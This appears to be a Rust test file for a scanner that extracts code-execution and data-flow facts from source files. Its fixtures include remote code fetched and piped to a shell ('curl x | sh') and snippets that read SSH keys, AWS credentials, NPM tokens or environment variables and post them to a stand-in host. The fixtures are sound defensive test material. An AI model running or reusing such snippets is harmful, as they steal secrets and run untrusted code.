//! Rust through the whole front end: what a source says, and which facts come of it.

use super::*;
use crate::facts::{Capability, Labels, Sink};
use proptest::prelude::*;

fn of(text: &str) -> Facts {
    facts("src/lib.rs", text.as_bytes(), &Outside::default())
}

fn flow(facts: &Facts, sink: Sink, labels: Labels, part: &str) -> bool {
    facts.flows.iter().any(|flow| {
        flow.sink == sink
            && (labels.is_empty() || flow.labels.has(labels))
            && flow.text.as_deref().unwrap_or_default().contains(part)
    })
}

#[test]
fn the_table_can_be_read() {
    assert!(TABLE.problems().is_empty(), "{:?}", TABLE.problems());
}

#[test]
fn a_program_is_known_through_imports_aliases_and_chains() {
    for text in [
        "use std::process::Command;\nfn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl x | sh\").spawn().unwrap(); }",
        "use std::process::{self, Command as C};\nfn main() { let mut c = C::new(\"sh\"); c.args([\"-c\", \"curl x | sh\"]); c.status()?; }",
        "fn main() { ::std::process::Command::new(\"sh\").args(&[\"-c\", concat!(\"curl\", \" x | sh\")]).output().expect(\"x\"); }",
        "use std::process;\nconst S: &str = \"curl x | sh\";\nimpl A { fn b(&self) { if self.x { match y { Ok(_) => { process::Command::new(S); } _ => {} } } } }",
        "flags! { pub struct A: u32 { const B = C as u32; } }\nimpl Default for A { fn default() -> Self { A::B } }\nfn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl x | sh\").spawn(); }",
        "use std::process::*;\nfn f() { Command::new(\"sh\").args([\"-c\", \"curl x | sh\"]).spawn(); }",
        "use std::process::Command;\nfn f() { std::thread::spawn(move || { let x = format!(\"curl {} | sh\", \"x\"); Command::new(\"sh\").arg(x); }); }",
    ] {
        let facts = of(text);
        assert!(flow(&facts, Sink::Run, Labels::NONE, "curl x | sh"), "{text}\n{facts:#?}");
        assert!(facts.uses.iter().any(|one| one.capability == Capability::Process), "{text}");
        assert!(facts.parsed, "{text}");
    }
}

#[test]
fn what_is_sent_carries_where_it_came_from() {
    for (text, labels) in [
        (
            "fn main() { let k = std::fs::read_to_string(\"/root/.ssh/id_rsa\").unwrap(); ureq::post(\"http://192.0.2.1\").send_string(&k).unwrap(); }",
            Labels::SECRET,
        ),
        (
            "use std::env;\nfn main() { let v: Vec<_> = env::vars().collect(); reqwest::blocking::Client::new().post(\"http://192.0.2.1\").json(&v).send(); }",
            Labels::ENVIRONMENT,
        ),
        (
            "use std::{fs::File, io::Read, net::TcpStream};\nfn f() -> R { let mut s = String::new(); File::open(\"/home/a/.aws/credentials\")?.read_to_string(&mut s)?; let mut c = TcpStream::connect(\"192.0.2.1:80\")?; c.write_all(s.as_bytes())?; Ok(()) }",
            Labels::SECRET,
        ),
        (
            "fn f() { for (k, v) in std::env::vars() { let body = format!(\"{k}={v}\"); minreq::post(\"http://192.0.2.1\").with_body(1); let _ = ureq::post(\"http://192.0.2.1/\").send_string(&body); } }",
            Labels::ENVIRONMENT,
        ),
        (
            "fn f() { if let Ok(t) = std::env::var(\"NPM_TOKEN\") { ureq::get(&format!(\"http://192.0.2.1/{}\", t)).call(); } }",
            Labels::SECRET_VARIABLE,
        ),
        (
            "fn f() { let p = dirs::home_dir().unwrap().join(\".ssh\").join(\"id_rsa\"); match std::fs::read(p) { Ok(b) => { ureq::post(\"http://192.0.2.1\").send_bytes(&b); } Err(_) => {} } }",
            Labels::SECRET,
        ),
    ] {
        let facts = of(text);
        assert!(flow(&facts, Sink::Send, labels, ""), "{text}\n{facts:#?}");
    }
}

#[test]
fn a_honest_build_script_sends_nothing_and_runs_only_its_compiler() {
    let facts = of(
        "use std::{env, path::PathBuf, process::Command};\n#[cfg(test)]\nmod tests { fn f() { ureq::get(\"http://x\"); } }\n\
         fn main() {\n    println!(\"cargo:rerun-if-changed=build.rs\");\n    let out = PathBuf::from(env::var(\"OUT_DIR\").unwrap());\n    \
         let rustc = env::var_os(\"RUSTC\").unwrap_or_else(|| \"rustc\".into());\n    let v = Command::new(rustc).arg(\"--version\").output().unwrap();\n    \
         cc::Build::new().file(\"src/a.c\").compile(\"a\");\n    std::fs::write(out.join(\"x.rs\"), \"pub const A: u8 = 1;\").unwrap();\n}\n",
    );
    assert!(!facts.uses.iter().any(|one| one.capability == Capability::Network), "{facts:#?}");
    assert!(!facts.flows.iter().any(|flow| flow.sink == Sink::Send), "{facts:#?}");
}

#[test]
fn tokens_of_all_kinds_are_read() {
    let facts = of(
        "fn a<'a>(x: &'a str) { /* /* nested */ \" */ let c = '\\u{41}'; let d = 'x'; std::process::Command::new(r#\"a\"b\"#).arg(b\"\\x63d\").arg(\"e\\\n   f\"); }",
    );
    assert!(flow(&facts, Sink::Run, Labels::NONE, "a\"b cd ef"), "{facts:#?}");
}

#[test]
fn deep_and_broken_sources_end() {
    for text in [
        "(".repeat(100_000),
        "a.b".repeat(100_000),
        "a::".repeat(100_000),
        "if x {".repeat(50_000),
        "|x|".repeat(50_000),
        "use a::{".repeat(20_000),
        "fn f<".repeat(10_000),
        "match x { a => ".repeat(10_000),
        "!".repeat(100_000),
        "return ".repeat(50_000),
        "let x = ".repeat(50_000),
        "#[".repeat(50_000),
    ] {
        // As scans have it: a stack that what is allowed fits into.
        let builder = std::thread::Builder::new().stack_size(64 << 20);
        builder.spawn(move || drop(of(&text))).unwrap().join().unwrap();
    }
}

proptest! {
    #[test]
    fn no_text_panics(text in "[a-c:;{}()\\[\\]<>|&=.!?#'\"\\\\/*, \n]{0,120}|(fn|let|use|if|match|for|impl|mod|in|else|as|return|[a-c:;{}()<>|&=.!?#'\"] ?){0,60}") {
        of(&text);
    }
}
